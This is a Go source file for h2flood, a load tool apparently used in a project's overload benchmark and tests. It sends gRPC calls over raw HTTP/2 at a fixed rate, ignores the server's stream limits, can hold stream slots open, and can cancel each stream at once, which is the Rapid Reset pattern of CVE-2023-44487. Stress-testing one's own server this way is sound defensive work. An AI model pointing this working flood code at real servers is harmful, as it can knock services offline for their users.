// Command h2flood opens gRPC calls over raw HTTP/2 at a fixed rate, the way
// a client that does not cooperate would: it ignores the server's
// SETTINGS_MAX_CONCURRENT_STREAMS (-ignore-limit, the default), or cancels
// every stream right after opening it (-reset, the "Rapid Reset" pattern of
// CVE-2023-44487). It counts what came back: gRPC statuses, RST_STREAM codes
// and GOAWAYs, and prints them as one JSON object on stdout.
//
// The overload benchmark uses it to measure what a refusal before a call
// exists (RST_STREAM REFUSED_STREAM) costs the server; the tests use it to
// show that a flood of refused or reset streams does not starve other callers.
//
//	h2flood -addr 127.0.0.1:50051 -path /todo.v1.TodoService/GetTodo -body get.body \
//	        -conns 4 -rate 4000 -duration 5s [-reset] [-timeout 100ms] [-header 'authorization: Bearer x']
//
// -body is a file holding one length-prefixed gRPC message (as h2load's -d).
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

type headerList []string

func (h *headerList) String() string     { return strings.Join(*h, ", ") }
func (h *headerList) Set(v string) error { *h = append(*h, v); return nil }

// counts is what one connection saw; merged at the end.
type counts struct {
	Sent       int64            `json:"sent"`
	Statuses   map[string]int64 `json:"grpc_status"`
	Resets     map[string]int64 `json:"rst_stream"`
	GoAways    int64            `json:"goaway"`
	Reconnects int64            `json:"reconnects"`
	Errors     []string         `json:"errors,omitempty"`
}

func newCounts() *counts {
	return &counts{Statuses: map[string]int64{}, Resets: map[string]int64{}}
}

func (c *counts) add(o *counts) {
	c.Sent += o.Sent
	for k, v := range o.Statuses {
		c.Statuses[k] += v
	}
	for k, v := range o.Resets {
		c.Resets[k] += v
	}
	c.GoAways += o.GoAways
	c.Reconnects += o.Reconnects
	if len(c.Errors) < 10 {
		c.Errors = append(c.Errors, o.Errors...)
	}
}

type config struct {
	addr     string
	path     string
	body     []byte
	interval time.Duration
	until    time.Time
	reset    bool
	hold     int
	timeout  string
	headers  [][2]string
}

// conn is one HTTP/2 connection: a writer at a fixed rate, a reader counting replies.
type conn struct {
	cfg    *config
	nc     net.Conn
	fr     *http2.Framer
	wmu    sync.Mutex // the framer's writes and the HPACK encoder
	henc   *hpack.Encoder
	hbuf   bytes.Buffer
	sendMu sync.Mutex
	sendCv *sync.Cond
	window int64 // connection-level send window
	dead   bool
	mu     *sync.Mutex // guards seen, shared by every connection of one run
	seen   *counts
}

func dial(cfg *config, seen *counts, mu *sync.Mutex) (*conn, error) {
	nc, err := net.DialTimeout("tcp", cfg.addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	c := &conn{cfg: cfg, nc: nc, fr: http2.NewFramer(nc, nc), window: 65535, seen: seen, mu: mu}
	c.fr.ReadMetaHeaders = hpack.NewDecoder(65536, nil)
	c.fr.MaxHeaderListSize = 1 << 20
	c.henc = hpack.NewEncoder(&c.hbuf)
	c.sendCv = sync.NewCond(&c.sendMu)
	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 24}); err != nil {
		return nil, err
	}
	if err := c.fr.WriteWindowUpdate(0, 1<<30); err != nil {
		return nil, err
	}
	return c, nil
}

func (c *conn) fail(err error) {
	c.mu.Lock()
	if len(c.seen.Errors) < 10 {
		c.seen.Errors = append(c.seen.Errors, err.Error())
	}
	c.mu.Unlock()
	c.sendMu.Lock()
	c.dead = true
	c.sendCv.Broadcast()
	c.sendMu.Unlock()
	_ = c.nc.Close()
}

func (c *conn) read() {
	for {
		frame, err := c.fr.ReadFrame()
		if err != nil {
			c.fail(err)
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				err = c.fr.WriteSettingsAck()
				c.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.wmu.Lock()
				err = c.fr.WritePing(true, f.Data)
				c.wmu.Unlock()
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				c.sendMu.Lock()
				c.window += int64(f.Increment)
				c.sendCv.Broadcast()
				c.sendMu.Unlock()
			}
		case *http2.DataFrame:
			if n := len(f.Data()); n > 0 {
				c.wmu.Lock()
				err = c.fr.WriteWindowUpdate(0, uint32(n))
				c.wmu.Unlock()
			}
		case *http2.MetaHeadersFrame:
			if f.StreamEnded() {
				code := "missing"
				for _, field := range f.Fields {
					if field.Name == "grpc-status" {
						code = field.Value
					}
				}
				c.mu.Lock()
				c.seen.Statuses[code]++
				c.mu.Unlock()
			}
		case *http2.RSTStreamFrame:
			c.mu.Lock()
			c.seen.Resets[f.ErrCode.String()]++
			c.mu.Unlock()
		case *http2.GoAwayFrame:
			c.mu.Lock()
			c.seen.GoAways++
			c.mu.Unlock()
			c.fail(fmt.Errorf("GOAWAY %v", f.ErrCode))
			return
		}
		if err != nil {
			c.fail(err)
			return
		}
	}
}

// open writes one call: HEADERS, then the message (or RST_STREAM with -reset;
// nothing more for a held stream, which keeps its slot until the connection ends).
func (c *conn) open(id uint32, hold bool) error {
	body := c.cfg.body
	if !c.cfg.reset && !hold {
		c.sendMu.Lock()
		for c.window < int64(len(body)) && !c.dead {
			c.sendCv.Wait()
		}
		dead := c.dead
		c.window -= int64(len(body))
		c.sendMu.Unlock()
		if dead {
			return io.ErrClosedPipe
		}
	}
	c.wmu.Lock()
	defer c.wmu.Unlock()
	c.hbuf.Reset()
	fields := [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", c.cfg.path}, {":authority", c.cfg.addr},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}
	if c.cfg.timeout != "" {
		fields = append(fields, [2]string{"grpc-timeout", c.cfg.timeout})
	}
	fields = append(fields, c.cfg.headers...)
	for _, f := range fields {
		if err := c.henc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	if err := c.fr.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true, EndStream: false,
	}); err != nil {
		return err
	}
	if hold {
		return nil
	}
	if c.cfg.reset {
		return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	}
	return c.fr.WriteData(id, true, body)
}

// run keeps one connection (reconnecting after GOAWAY or an error) at its rate until the end.
func run(cfg *config, seen *counts, wg *sync.WaitGroup) {
	defer wg.Done()
	next := time.Now()
	var mu sync.Mutex
	for time.Now().Before(cfg.until) {
		c, err := dial(cfg, seen, &mu)
		if err != nil {
			mu.Lock()
			if len(seen.Errors) < 10 {
				seen.Errors = append(seen.Errors, err.Error())
			}
			mu.Unlock()
			time.Sleep(100 * time.Millisecond)
			continue
		}
		go c.read()
		id := uint32(1)
		for i := 0; i < cfg.hold; i++ {
			if err := c.open(id, true); err != nil {
				c.fail(err)
				break
			}
			id += 2
		}
		for time.Now().Before(cfg.until) && id < 1<<30 {
			if err := c.open(id, false); err != nil {
				c.fail(err)
				break
			}
			c.mu.Lock()
			seen.Sent++
			c.mu.Unlock()
			id += 2
			next = next.Add(cfg.interval)
			if wait := time.Until(next); wait > 0 {
				time.Sleep(wait)
			} else if wait < -time.Second {
				next = time.Now() // behind by more than a second: do not burst to catch up
			}
		}
		// Let the replies to the last calls arrive, then close.
		time.Sleep(200 * time.Millisecond)
		c.sendMu.Lock()
		dead := c.dead
		c.sendMu.Unlock()
		_ = c.nc.Close()
		if dead && time.Now().Before(cfg.until) {
			c.mu.Lock()
			seen.Reconnects++
			c.mu.Unlock()
		}
	}
}

func main() {
	addr := flag.String("addr", "127.0.0.1:50051", "server address")
	path := flag.String("path", "/todo.v1.TodoService/GetTodo", "the method's path")
	bodyFile := flag.String("body", "", "file with one length-prefixed gRPC message")
	conns := flag.Int("conns", 1, "connections")
	rate := flag.Float64("rate", 1000, "calls opened per second, over all connections")
	duration := flag.Duration("duration", 5*time.Second, "how long to send")
	reset := flag.Bool("reset", false, "cancel every stream right after its HEADERS (rapid reset)")
	hold := flag.Int("hold", 0, "streams opened first on each connection and never finished (they hold stream slots)")
	timeout := flag.Duration("timeout", 0, "grpc-timeout to send (0: none)")
	var headers headerList
	flag.Var(&headers, "header", "extra request header 'name: value' (repeatable)")
	flag.Parse()
	body := []byte{0, 0, 0, 0, 0}
	if *bodyFile != "" {
		data, err := os.ReadFile(*bodyFile)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(2)
		}
		body = data
	}
	if *conns < 1 || *rate <= 0 {
		fmt.Fprintln(os.Stderr, "need -conns >= 1 and -rate > 0")
		os.Exit(2)
	}
	cfg := &config{
		addr: *addr, path: *path, body: body, reset: *reset, hold: *hold,
		interval: time.Duration(float64(time.Second) * float64(*conns) / *rate),
		until:    time.Now().Add(*duration),
	}
	if *timeout > 0 {
		cfg.timeout = strconv.FormatInt(timeout.Milliseconds(), 10) + "m"
	}
	for _, h := range headers {
		name, value, ok := strings.Cut(h, ":")
		if !ok {
			fmt.Fprintf(os.Stderr, "bad -header %q (want 'name: value')\n", h)
			os.Exit(2)
		}
		cfg.headers = append(cfg.headers, [2]string{strings.ToLower(strings.TrimSpace(name)), strings.TrimSpace(value)})
	}
	began := time.Now()
	var wg sync.WaitGroup
	all := make([]*counts, *conns)
	for i := range all {
		all[i] = newCounts()
		wg.Add(1)
		go run(cfg, all[i], &wg)
	}
	wg.Wait()
	total := newCounts()
	for _, c := range all {
		total.add(c)
	}
	out := map[string]any{"seconds": time.Since(began).Seconds(), "counts": total}
	if err := json.NewEncoder(os.Stdout).Encode(out); err != nil {
		os.Exit(1)
	}
}
